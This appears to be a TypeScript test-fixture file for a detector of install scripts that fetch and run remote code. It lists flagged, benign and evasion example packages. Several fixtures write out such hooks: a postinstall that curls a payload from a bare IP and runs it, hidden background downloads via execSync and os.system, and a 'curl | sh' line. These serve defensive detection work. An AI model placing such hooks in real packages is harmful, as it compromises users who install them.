import type { Examples } from "@doorward/core";

/** Projects whose installation fetches and runs out of sight, and honest ones. */
export const examples: Examples = {
  hits: [
    {
      name: "a script after installing that runs what a bare address sends",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -s http://198.51.100.7/x -o /tmp/.x && sh /tmp/.x"\n  }\n}\n',
      },
    },
    {
      name: "a program that saves a download and leaves it running on its own",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "prepare": "node setup.js"\n  }\n}\n',
        "setup.js":
          'const { execSync } = require("child_process");\n\nexecSync("curl -s https://setup.example/a -o /tmp/.a; nohup sh /tmp/.a >/dev/null 2>&1 &");\n',
      },
    },
    {
      name: "a set-up program of Python that starts a download in the background",
      files: {
        "setup.py":
          'import os\nfrom setuptools import setup\n\nos.system("wget -q https://setup.example/a -O /tmp/.a && (sh /tmp/.a &)")\nsetup(name="shop")\n',
      },
    },
  ],
  misses: [
    {
      name: "an installer that saves a program and starts it openly",
      why: "The address has a name, the program is started in sight, and installing waits for it.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "node install.js"\n  }\n}\n',
        "install.js":
          'const { execFileSync } = require("child_process");\n\nexecFileSync("curl", ["-fsSL", "https://downloads.example/tool", "-o", "bin/tool"]);\nexecFileSync("bin/tool", ["--version"]);\n',
      },
    },
    {
      name: "a server of this machine that is asked while installing",
      why: "What answers runs on the same machine.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -s http://127.0.0.1:3000/warm"\n  }\n}\n',
      },
    },
    {
      name: "a background build that downloads nothing",
      why: "It starts a program of the project.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "node build.js &"\n  }\n}\n',
        "build.js": 'console.log("built");\n',
      },
    },
  ],
  evasions: [
    {
      name: "the same in the open, from an address with a name",
      caughtBy: "code/install-runs-download",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "postinstall": "curl -s https://setup.example/x | sh"\n  }\n}\n',
      },
    },
  ],
};
